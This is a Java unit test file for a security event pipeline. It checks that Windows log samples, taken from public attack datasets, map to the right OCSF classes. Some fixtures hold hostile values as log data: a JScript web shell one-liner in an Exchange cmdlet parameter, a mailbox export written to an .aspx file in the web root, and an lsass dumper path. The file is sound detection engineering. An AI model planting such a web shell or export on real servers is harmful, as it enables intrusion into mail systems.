package io.socaas.events.ocsf;

import static io.socaas.events.ocsf.MappedRecords.assertBaseEventOf;
import static io.socaas.events.ocsf.MappedRecords.assertClass;
import static io.socaas.events.ocsf.MappedRecords.assertStatus;
import static io.socaas.events.ocsf.MappedRecords.json;
import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import java.util.Arrays;
import java.util.List;
import org.junit.jupiter.api.Test;

/**
 * Events of the Application and System logs and of operational channels that a specific OCSF class
 * describes, in the shapes Windows events arrive in: Windows Installer transactions, the database
 * engine's databases, silent process exits, failed service starts, Netlogon's failed secure channels,
 * DCOM's refused launches, failed WMI operations, Exchange cmdlets, PowerShell's script block
 * invocations, the RDP listener's connections and Sysmon's own state. Each is checked both ways: a
 * neighbouring event of the same channel, a status or diagnostic one, stays a Base Event. The
 * events are those of the shared corpus (evtx-attack-samples: evtx-dump shape; OTRF
 * Security-Datasets: NXLog's flat shape), shortened, with other names and addresses.
 */
class WindowsApplicationSystemAndOperationalLogsMappingsTest {

    private static final String RCM = "Microsoft-Windows-TerminalServices-RemoteConnectionManager/Operational";
    private static final String RDPCORE = "Microsoft-Windows-RemoteDesktopServices-RdpCoreTS/Operational";
    private static final String WMI = "Microsoft-Windows-WMI-Activity/Operational";
    private static final String POWERSHELL = "Microsoft-Windows-PowerShell/Operational";
    private static final String SYSMON = "Microsoft-Windows-Sysmon/Operational";

    /** An evtx-dump event: the provider, the id, the channel and the data section. */
    private static String evtx(String provider, int eventId, String channel, String data) {
        return evtxEvent(provider, Integer.toString(eventId), channel, data);
    }

    private static String evtxEvent(String provider, String eventId, String channel, String data) {
        return """
                {"Event":{"System":{"Provider":{"#attributes":{"Name":"%s"}},"EventID":%s,
                 "TimeCreated":{"#attributes":{"SystemTime":"2026-02-28T13:05:42.000000Z"}},"Channel":"%s",
                 "Computer":"APP07.corp.example","Security":{"#attributes":{"UserID":"S-1-5-18"}}},%s}}""".formatted(provider, eventId, channel, data);
    }

    /**
     * An evtx-dump event of a classic provider (its id written with Qualifiers) with its insertion strings,
     * which the dump keeps as EventData's Data text.
     */
    private static String evtxStrings(String provider, int eventId, String channel, String... strings)
            throws Exception {
        String text = String.join(
                "\n",
                Arrays.stream(strings).map(s -> "<string>" + s + "</string>").toList());
        return evtxEvent(
                provider,
                "{\"#attributes\":{\"Qualifiers\":\"0\"},\"#text\":" + eventId + "}",
                channel,
                "\"EventData\":{\"Binary\":null,\"Data\":{\"#text\":" + MappedRecords.JSON.writeValueAsString(text)
                        + "}}");
    }

    /** A flat record as NXLog sends it, with the rendered message. */
    private static String nxlog(String channel, int eventId, String source, String message) throws Exception {
        return """
                {"EventTime":"2026-02-28 13:05:42","Hostname":"APP07.corp.example","Channel":"%s","EventID":%d,
                 "SourceName":"%s","Message":%s}""".formatted(channel, eventId, source, MappedRecords.JSON.writeValueAsString(message));
    }

    @Test
    void aWindowsInstallerTransactionIsTheLifecycleOfItsPackageAndARogueUrlIsKept() throws Exception {
        // evtx-attack-samples' rogue_msi_url_1040_1042: msiexec /i of a URL, and a local package
        JsonNode url = json(evtxStrings(
                "MsiInstaller",
                1040,
                "Application",
                "http://updates.example.net/staterepository",
                "2600",
                "(NULL)",
                "(NULL)",
                "(NULL)",
                "(NULL)",
                ""));
        assertClass(url, 6002, 99);
        assertThat(url.at("/app/url_string").asText()).isEqualTo("http://updates.example.net/staterepository");
        assertThat(url.at("/actor/process/pid").asInt()).isEqualTo(2600);
        assertThat(url.at("/actor/user/uid").asText()).isEqualTo("S-1-5-18");
        // the data strings stay as sent (an evtx dump's own shape), for SigmaHQ's MsiInstaller rules (Data|contains:
        // '://')
        assertThat(url.at("/unmapped/Event/EventData/Data/#text").asText())
                .contains("http://updates.example.net/staterepository");

        JsonNode local = json(evtxStrings(
                "MsiInstaller",
                1042,
                "Application",
                "C:\\Users\\Admin\\AppData\\Local\\Temp\\Qemu-ga.msi",
                "1748",
                "(NULL)",
                "(NULL)",
                "(NULL)",
                "(NULL)",
                ""));
        assertClass(local, 6002, 99);
        assertThat(local.at("/app/name").asText()).isEqualTo("Qemu-ga.msi");
        assertThat(local.at("/unmapped/msiPackage").asText())
                .isEqualTo("C:\\Users\\Admin\\AppData\\Local\\Temp\\Qemu-ga.msi");
        assertThat(local.at("/app/url_string").isMissingNode()).isTrue();

        JsonNode product = json(
                nxlog(
                        "Application",
                        1040,
                        "MsiInstaller",
                        "Beginning a Windows Installer transaction: {90140000-001F-0409-0000-0000000FF1CE}. Client Process Id: 556."));
        assertClass(product, 6002, 99);
        assertThat(product.at("/app/uid").asText()).isEqualTo("{90140000-001F-0409-0000-0000000FF1CE}");
        assertThat(product.at("/actor/process/pid").asInt()).isEqualTo(556);
        JsonNode winlogbeat = json("""
                {"@timestamp":"2026-02-28T13:05:42.000Z","message":"Ending a Windows Installer transaction: https://cdn.example.org/a/setup.msi. Client Process Id: 4120.",
                 "winlog":{"channel":"Application","event_id":1042,"provider_name":"MsiInstaller","computer_name":"APP07"}}""");
        assertClass(winlogbeat, 6002, 99);
        assertThat(winlogbeat.at("/app/url_string").asText()).isEqualTo("https://cdn.example.org/a/setup.msi");

        // the Software Protection Platform writes its own 1040 to the Application log: not an installer's
        JsonNode spp = json(evtxStrings(
                "Microsoft-Windows-Security-SPP",
                1040,
                "Application",
                "55c92734-d682-4d71-983e-d6ec3f16059f",
                "e838d943-63ed-4a0b-9fb1-47152908acc9"));
        assertBaseEventOf(spp, "Windows");
    }

    @Test
    void aDatabaseTheDirectoryEngineCreatesOrDetachesIsDatastoreActivityOfItsFile() throws Exception {
        // evtx-attack-samples' dc_applog_ntdsutil_dfir_325_326_327: ntdsutil's copy of ntds.dit
        JsonNode created = json(evtxStrings(
                "ESENT",
                325,
                "Application",
                "NTDS",
                "3392",
                "",
                "2",
                "C:\\ProgramData\\ifm\\Active Directory\\ntds.dit",
                "0",
                "[1] 0.000, [2] 0.000."));
        assertClass(created, 6005, 6);
        assertThat(created.at("/database/name").asText()).isEqualTo("C:\\ProgramData\\ifm\\Active Directory\\ntds.dit");
        assertThat(created.at("/actor/process/name").asText()).isEqualTo("NTDS");
        assertThat(created.at("/actor/process/pid").asInt()).isEqualTo(3392);
        JsonNode attached = json(
                nxlog(
                        "Application",
                        326,
                        "ESENT",
                        "NTDS (604) NTDSA: The database engine attached a database (1, C:\\Windows\\NTDS\\ntds.dit). (Time=0 seconds)\r\n\r\nSaved Cache: 1 0"));
        assertClass(attached, 6005, 3);
        assertThat(attached.at("/database/name").asText()).isEqualTo("C:\\Windows\\NTDS\\ntds.dit");
        assertThat(attached.at("/actor/process/pid").asInt()).isEqualTo(604);
        JsonNode detached = json(
                nxlog(
                        "Application",
                        327,
                        "ESENT",
                        "svchost (2544,D,0) SRUJet: The database engine detached a database (1, C:\\Windows\\system32\\SRU\\SRUDB.dat). (Time=0 seconds)"));
        assertClass(detached, 6005, 99);
        assertThat(detached.at("/actor/process/name").asText()).isEqualTo("svchost");

        // the engine's other messages (a database's location, its recovery) are no datastore activity
        assertBaseEventOf(
                json(
                        nxlog(
                                "Application",
                                102,
                                "ESENT",
                                "svchost (2544,R,98) TILEREPOSITORYS-1-5-18: The database engine (10.00.19041.0000) is starting a new instance (0).")),
                "Windows");
    }

    @Test
    void aProcessTerminatedByAnotherOneUnderSilentExitMonitoringIsItsTermination() throws Exception {
        // evtx-attack-samples' LsassSilentProcessExit_process_exit_monitor_3001_lsass
        String data = """
                "EventData":{"#attributes":{"Name":"EVENT_PROCESSTERMINATION_CROSSPROCESS"},
                 "param1":"C:\\\\Windows\\\\System32\\\\lsass.exe","param2":"C:\\\\Users\\\\Public\\\\dumper.exe","param3":0,
                 "param4":"01d75d3714c3280e"}""";
        JsonNode exit = json(evtx("Microsoft-Windows-ProcessExitMonitor", 3001, "Application", data));
        assertClass(exit, 1007, 2);
        assertThat(exit.at("/process/file/path").asText()).isEqualTo("C:\\Windows\\System32\\lsass.exe");
        assertThat(exit.at("/actor/process/file/path").asText()).isEqualTo("C:\\Users\\Public\\dumper.exe");
        assertThat(exit.get("exit_code").asInt()).isZero();
        JsonNode flat = json("""
                {"EventTime":"2026-02-28 13:05:42","Hostname":"APP07","Channel":"Application","EventID":3001,
                 "SourceName":"Microsoft-Windows-ProcessExitMonitor","param1":"C:\\\\Windows\\\\System32\\\\lsass.exe",
                 "param2":"C:\\\\Windows\\\\Temp\\\\x.exe","param3":"0"}""");
        assertClass(flat, 1007, 2);
        assertThat(flat.at("/actor/process/file/path").asText()).isEqualTo("C:\\Windows\\Temp\\x.exe");

        // another application's 3001 with data strings of its own is not the monitor's
        assertBaseEventOf(json(evtx("VSS", 3001, "Application", data)), "Windows");
    }

    @Test
    void aServiceThatFailedToStartIsAFailedStartOfThatService() throws Exception {
        // OTRF's aptsimulator_cobaltstrike: a service installed by a tool that never answered
        JsonNode failed = json("""
                {"SourceName":"Service Control Manager","Channel":"System","Hostname":"WORKSTATION5","EventID":7000,
                 "TimeCreated":"2026-02-28T09:07:41.338Z","param1":"tbbd05","param2":"%%1053",
                 "Message":"The tbbd05 service failed to start due to the following error: \\r\\nThe service did not respond to the start or control request in a timely fashion."}""");
        assertClass(failed, 201004, 3);
        assertStatus(failed, 2);
        assertThat(failed.at("/win_service/name").asText()).isEqualTo("tbbd05");
        assertThat(failed.get("status_detail").asText())
                .isEqualTo("The service did not respond to the start or control request in a timely fashion.");
        JsonNode evtx = json(evtx(
                "Service Control Manager",
                7000,
                "System",
                "\"EventData\":{\"param1\":\"Spooler\",\"param2\":\"%%1053\"}"));
        assertClass(evtx, 201004, 3);
        assertThat(evtx.at("/win_service/name").asText()).isEqualTo("Spooler");

        // the timeout that comes with it (7009) adds nothing: a Base Event
        assertBaseEventOf(json("""
                {"SourceName":"Service Control Manager","Channel":"System","Hostname":"WORKSTATION5","EventID":7009,
                 "param1":"30000","param2":"tbbd05",
                 "Message":"A timeout was reached (30000 milliseconds) while waiting for the tbbd05 service to connect."}"""), "Windows");
    }

    @Test
    void aComputerThatFailedToSetUpItsSecureChannelIsAFailedNetlogonLogonFromIt() throws Exception {
        // evtx-attack-samples' Zerologon_CVE-2020-1472_DFIR_System_NetLogon_Error_EventID_5805
        JsonNode evtx = json(evtxStrings("NETLOGON", 5805, "System", "WS-0142", "%%5"));
        assertClass(evtx, 3002, 1);
        assertStatus(evtx, 2);
        assertThat(evtx.at("/src_endpoint/hostname").asText()).isEqualTo("WS-0142");
        assertThat(evtx.get("auth_protocol").asText()).isEqualTo("Netlogon");
        assertThat(evtx.get("status_detail").asText()).isEqualTo("Access is denied.");
        assertThat(evtx.at("/dst_endpoint/hostname").asText()).isEqualTo("APP07.corp.example");
        JsonNode flat = json(
                nxlog(
                        "System",
                        5805,
                        "NETLOGON",
                        "The session setup from the computer WS-0142 failed to authenticate. The following error occurred: \r\nAccess is denied."));
        assertClass(flat, 3002, 1);
        assertThat(flat.at("/src_endpoint/hostname").asText()).isEqualTo("WS-0142");
        assertThat(flat.get("status_detail").asText()).isEqualTo("Access is denied.");

        // Netlogon's DNS registration warnings are no logon
        assertBaseEventOf(
                json(
                        nxlog(
                                "System",
                                5774,
                                "NETLOGON",
                                "The dynamic registration of the DNS record 'corp.example. 600 IN A 10.0.0.5' failed on the following DNS server.")),
                "Windows");
    }

    @Test
    void aRemoteComLaunchDcomRefusedIsAFailedApiCallFromTheCallersAddress() throws Exception {
        // evtx-attack-samples' LM_dcom_shwnd_shbrwnd_mmc20_failed_traces_system_10016: ShellWindows from 10.0.2.17
        JsonNode evtx = json(evtx("Microsoft-Windows-DistributedCOM", 10016, "System", """
                "EventData":{"param1":"application-specific","param2":"Remote","param3":"Launch",
                 "param4":"{C08AFD90-F2A1-11D1-8455-00A0C91F3880}","param5":"{C08AFD90-F2A1-11D1-8455-00A0C91F3880}",
                 "param6":"CORP","param7":"alice","param8":"S-1-5-21-1-2-3-1104","param9":"10.0.2.17",
                 "param10":"Unavailable","param11":"Unavailable"}"""));
        assertClass(evtx, 6003, 99);
        assertStatus(evtx, 2);
        assertThat(evtx.at("/api/operation").asText()).isEqualTo("Launch");
        assertThat(evtx.at("/resources/0/uid").asText()).isEqualTo("{C08AFD90-F2A1-11D1-8455-00A0C91F3880}");
        assertThat(evtx.at("/actor/user/name").asText()).isEqualTo("alice");
        assertThat(evtx.at("/actor/user/domain").asText()).isEqualTo("CORP");
        assertThat(evtx.at("/src_endpoint/ip").asText()).isEqualTo("10.0.2.17");
        JsonNode local = json(nxlog(
                "System",
                10016,
                "Microsoft-Windows-DistributedCOM",
                "The application-specific permission settings do not grant Local Activation permission for the COM Server application with CLSID \r\n"
                        + "{2593F8B9-4EAF-457C-B68A-50F6B8EA6B54}\r\n and APPID \r\n{15C20B67-12E7-4BB6-92BB-7AFF07997402}\r\n"
                        + " to the user NT AUTHORITY\\LOCAL SERVICE SID (S-1-5-19) from address LocalHost (Using LRPC) running in the"
                        + " application container Unavailable SID (Unavailable). This security permission can be modified using the"
                        + " Component Services administrative tool."));
        assertClass(local, 6003, 99);
        assertThat(local.at("/api/operation").asText()).isEqualTo("Activation");
        assertThat(local.at("/actor/user/name").asText()).isEqualTo("LOCAL SERVICE");
        assertThat(local.at("/actor/user/domain").asText()).isEqualTo("NT AUTHORITY");
        assertThat(local.has("src_endpoint"))
                .as("LocalHost (Using LRPC) is no address")
                .isFalse();

        // OTRF's covenant_dcom_executeexcel4macro_blocked: DCOM could not reach a computer, a network error
        assertBaseEventOf(
                json(
                        nxlog(
                                "System",
                                10028,
                                "Microsoft-Windows-DistributedCOM",
                                "DCOM was unable to communicate with the computer 172.18.39.6 using any of the configured protocols; requested by PID 1ce8"
                                        + " (C:\\Users\\pgustavo\\Desktop\\MoveExcel4.exe), while activating CLSID {00024500-0000-0000-C000-000000000046}.")),
                "Windows");
    }

    @Test
    void aFailedWmiOperationIsAFailedApiCallWithItsMethodQueryAndClient() throws Exception {
        // OTRF's empire_shell_net_localgroup_administrators, as NXLog renders it
        JsonNode flat = json(
                nxlog(
                        WMI,
                        5858,
                        "Microsoft-Windows-WMI-Activity",
                        "Id = {0F80CB90-273C-4191-ABFD-5F5A8C2835D1}; ClientMachine = WORKSTATION6; User = THESHIRE\\pgustavo;"
                                + " ClientProcessId = 1364; Component = Unknown; Operation = Start IWbemServices::ExecQuery - ROOT\\CIMV2 :"
                                + " SELECT * FROM Win32_ComputerSystemProduct; ResultCode = 0x80041032; PossibleCause = Unknown"));
        assertClass(flat, 6003, 2);
        assertStatus(flat, 2);
        assertThat(flat.at("/api/operation").asText()).isEqualTo("ExecQuery");
        assertThat(flat.at("/resources/0/namespace").asText()).isEqualTo("ROOT\\CIMV2");
        assertThat(flat.at("/resources/0/name").asText()).isEqualTo("SELECT * FROM Win32_ComputerSystemProduct");
        assertThat(flat.at("/src_endpoint/hostname").asText()).isEqualTo("WORKSTATION6");
        assertThat(flat.at("/actor/user/name").asText()).isEqualTo("THESHIRE\\pgustavo");
        assertThat(flat.at("/actor/process/pid").asInt()).isEqualTo(1364);
        assertThat(flat.get("status_code").asText()).isEqualTo("0x80041032");
        // the operation is kept as the event's data names it, for SigmaHQ's 5858 rule (Operation|contains)
        assertThat(flat.at("/unmapped/Operation").asText())
                .isEqualTo("Start IWbemServices::ExecQuery - ROOT\\CIMV2 : SELECT * FROM Win32_ComputerSystemProduct");

        JsonNode evtx = json(evtx("Microsoft-Windows-WMI-Activity", 5858, WMI, """
                "UserData":{"Operation_ClientFailure":{"Id":"{3C8A4F7B-0000-0000-0000-000000000000}","ClientMachine":"MORDORDC",
                 "User":"NT AUTHORITY\\\\SYSTEM","ClientProcessId":1592,"Component":"Unknown",
                 "Operation":"Start IWbemServices::DeleteInstance - Root\\\\Rsop\\\\Computer : RSOP_ExtensionStatus.extensionGuid=\\"{0ACDD40C-75AC-47ab-BAA0-BF6DE7E7FE63}\\"",
                 "ResultCode":"0x80041002","PossibleCause":"Unknown"}}"""));
        assertClass(evtx, 6003, 4);
        assertThat(evtx.at("/api/operation").asText()).isEqualTo("DeleteInstance");
        assertThat(evtx.at("/resources/0/namespace").asText()).isEqualTo("Root\\Rsop\\Computer");
        assertThat(evtx.at("/src_endpoint/hostname").asText()).isEqualTo("MORDORDC");

        // a temporary event consumer registered (5860) is no failed call
        assertBaseEventOf(
                json(nxlog(
                        WMI,
                        5860,
                        "Microsoft-Windows-WMI-Activity",
                        "Namespace = ROOT\\CIMV2; NotificationQuery = SELECT * FROM Win32_ProcessStartTrace; OwnerName = S-1-5-18;"
                                + " HostProcessID = 2236;  Query listening to OS process start.")),
                "Windows");
    }

    @Test
    void anExchangeCmdletIsAnApiCallOfItsVerbWithTheParametersKept() throws Exception {
        // OTRF's proxylogon_ssrf_rce_poc: the web shell written through the OAB virtual directory
        JsonNode set = json(nxlog(
                "MSExchange Management",
                1,
                "MSExchange CmdletLogs",
                "Cmdlet suceeded. Cmdlet Set-OabVirtualDirectory, parameters -ExternalUrl \"http://ffff/#<script language=\"JScript\""
                        + " runat=\"server\"> function Page_Load(){/**/eval(Request[\"code\"],\"unsafe\");}</script>\" -Identity"
                        + " \"OAB (Default Web Site)\"."));
        assertClass(set, 6003, 3);
        assertStatus(set, 1);
        assertThat(set.at("/api/operation").asText()).isEqualTo("Set-OabVirtualDirectory");
        assertThat(set.at("/unmapped/exParameters").asText())
                .startsWith("-ExternalUrl \"http://ffff/#<script")
                .endsWith("(Default Web Site)\"");
        JsonNode removed = json(evtxStrings(
                "MSExchange CmdletLogs",
                1,
                "MSExchange Management",
                "Remove-OabVirtualDirectory",
                "-Force \"True\" -Identity \"MXS01\\OAB (Default Web Site)\"",
                "corp.example/Users/admin"));
        assertClass(removed, 6003, 4);
        assertThat(removed.at("/api/operation").asText()).isEqualTo("Remove-OabVirtualDirectory");
        JsonNode failed = json(
                nxlog(
                        "MSExchange Management",
                        6,
                        "MSExchange CmdletLogs",
                        "Cmdlet failed. Cmdlet New-MailboxExportRequest, parameters -Mailbox \"ceo\" -FilePath \"\\\\127.0.0.1\\c$\\inetpub\\a.aspx\"."));
        assertClass(failed, 6003, 1);
        assertStatus(failed, 2);

        // Exchange's other components log to the Application log: no cmdlet there
        assertBaseEventOf(
                json(nxlog("Application", 1, "MSExchange Front End HTTP Proxy", "[Ews] Application starting.")),
                "Windows");
    }

    @Test
    void aScriptBlockInvocationIsScriptActivityOfTheBlockItsIdNames() throws Exception {
        // OTRF's psh_disable_eventlog_service_startuptype_modification (verbose invocation logging)
        JsonNode started = json("""
                {"SourceName":"Microsoft-Windows-PowerShell","Channel":"%s","Hostname":"Pedro01","EventID":4105,
                 "TimeCreated":"2026-02-28T07:22:11.287Z","ScriptBlockId":"5e6f8806-0c39-428a-8367-e2a3ef602d66",
                 "RunspaceId":"2df6de6d-4ed6-4209-b598-917823190d34",
                 "Message":"Started invocation of ScriptBlock ID: 5e6f8806-0c39-428a-8367-e2a3ef602d66\\r\\nRunspace ID: 2df6de6d-4ed6-4209-b598-917823190d34"}""".formatted(POWERSHELL));
        assertClass(started, 1009, 1);
        assertThat(started.at("/script/uid").asText()).isEqualTo("5e6f8806-0c39-428a-8367-e2a3ef602d66");
        assertThat(started.at("/script/type").asText()).isEqualTo("PowerShell");
        JsonNode completed = json("""
                {"SourceName":"Microsoft-Windows-PowerShell","Channel":"%s","Hostname":"Pedro01","EventID":4106,
                 "ScriptBlockId":"5e6f8806-0c39-428a-8367-e2a3ef602d66","RunspaceId":"2df6de6d-4ed6-4209-b598-917823190d34"}""".formatted(POWERSHELL));
        assertClass(completed, 1009, 99);

        // the console starting (40961) is the host's state, no script
        assertBaseEventOf(json("""
                {"SourceName":"Microsoft-Windows-PowerShell","Channel":"%s","Hostname":"Pedro01","EventID":40961,
                 "Message":"PowerShell console is starting up"}""".formatted(POWERSHELL)), "Windows");
    }

    @Test
    void theRdpListenerReceivingAConnectionAndTheServerEndingItAreRdpActivity() throws Exception {
        // evtx-attack-samples' DE_RDP_Tunneling_TerminalServices-RemoteConnectionManagerOperational_1149
        JsonNode received = json(evtx(
                "Microsoft-Windows-TerminalServices-RemoteConnectionManager",
                261,
                RCM,
                "\"UserData\":{\"EventXML\":{\"#attributes\":{\"xmlns\":\"Event_NS\"},\"listenerName\":\"RDP-Tcp\"}}"));
        assertClass(received, 4005, 3);
        assertThat(received.at("/dst_endpoint/hostname").asText()).isEqualTo("APP07.corp.example");
        assertThat(received.at("/unmapped/Event/UserData/EventXML/listenerName").asText())
                .isEqualTo("RDP-Tcp");
        // evtx-attack-samples' rdpcorets_148_mst120_bluekeep_rpdscan_full
        JsonNode ended =
                json(evtx("Microsoft-Windows-RemoteDesktopServices-RdpCoreTS", 102, RDPCORE, "\"EventData\":null"));
        assertClass(ended, 4005, 7);

        // the listener starting (258), the role's state (1136), the disconnect's reason code (103), a channel
        // closed (148) and the server's interface calls (72) are states and diagnostics
        for (String event : List.of(
                evtx(
                        "Microsoft-Windows-TerminalServices-RemoteConnectionManager",
                        258,
                        RCM,
                        "\"UserData\":{\"EventXML\":{\"listenerName\":\"RDP-Tcp\"}}"),
                evtx("Microsoft-Windows-TerminalServices-RemoteConnectionManager", 1136, RCM, "\"EventData\":null"),
                evtx(
                        "Microsoft-Windows-RemoteDesktopServices-RdpCoreTS",
                        103,
                        RDPCORE,
                        "\"EventData\":{\"ReasonCode\":14}"),
                evtx(
                        "Microsoft-Windows-RemoteDesktopServices-RdpCoreTS",
                        148,
                        RDPCORE,
                        "\"EventData\":{\"ChannelName\":\"rdpinpt\",\"TunnelID\":0}"),
                evtx(
                        "Microsoft-Windows-RemoteDesktopServices-RdpCoreTS",
                        72,
                        RDPCORE,
                        "\"EventData\":{\"MethodName\":\"PrepareForAccept\"}"))) {
            assertBaseEventOf(json(event), "Windows");
        }
    }

    @Test
    void sysmonStoppedStartedOrReconfiguredIsAChangeOfTheSensorsState() throws Exception {
        // evtx-attack-samples' babyshark_mimikatz_powershell: sysmon -i, then its configuration loaded
        JsonNode stopped = json(
                evtx(
                        "Microsoft-Windows-Sysmon",
                        4,
                        SYSMON,
                        "\"EventData\":{\"UtcTime\":\"2026-02-28 13:05:19.713\",\"State\":\"Stopped\",\"Version\":\"15.15\",\"SchemaVersion\":\"4.90\"}"));
        assertClass(stopped, 5019, 1);
        assertThat(stopped.get("state").asText()).isEqualTo("Disabled");
        assertThat(stopped.get("severity_id").asInt()).isEqualTo(3);
        assertThat(stopped.at("/metadata/product/name").asText()).isEqualTo("Sysmon");
        JsonNode started = json(
                evtx(
                        "Microsoft-Windows-Sysmon",
                        4,
                        SYSMON,
                        "\"EventData\":{\"UtcTime\":\"2026-02-28 13:05:19.713\",\"State\":\"Started\",\"Version\":\"15.15\",\"SchemaVersion\":\"4.90\"}"));
        assertThat(started.get("state_id").asInt()).isEqualTo(2);
        JsonNode configured = json(evtx("Microsoft-Windows-Sysmon", 16, SYSMON, """
                "EventData":{"UtcTime":"2026-02-28 13:05:44.135","Configuration":"C:\\\\Tools\\\\sysmonconfig.xml",
                 "ConfigurationFileHash":"SHA256=0A1B2C3D4E5F60718293A4B5C6D7E8F90A1B2C3D4E5F60718293A4B5C6D7E8F9"}"""));
        assertClass(configured, 5019, 1);
        assertThat(configured.get("state").asText()).isEqualTo("Configuration changed");
        assertThat(configured.at("/unmapped/Event/EventData/Configuration").asText())
                .isEqualTo("C:\\Tools\\sysmonconfig.xml");

        // Sysmon's own errors (255) stay Base Events
        assertBaseEventOf(
                json(
                        evtx(
                                "Microsoft-Windows-Sysmon",
                                255,
                                SYSMON,
                                "\"EventData\":{\"UtcTime\":\"2026-02-28 13:05:44.135\",\"ID\":\"DriverCommunication\",\"Description\":\"Failed to retrieve events\"}")),
                "Sysmon");
    }
}
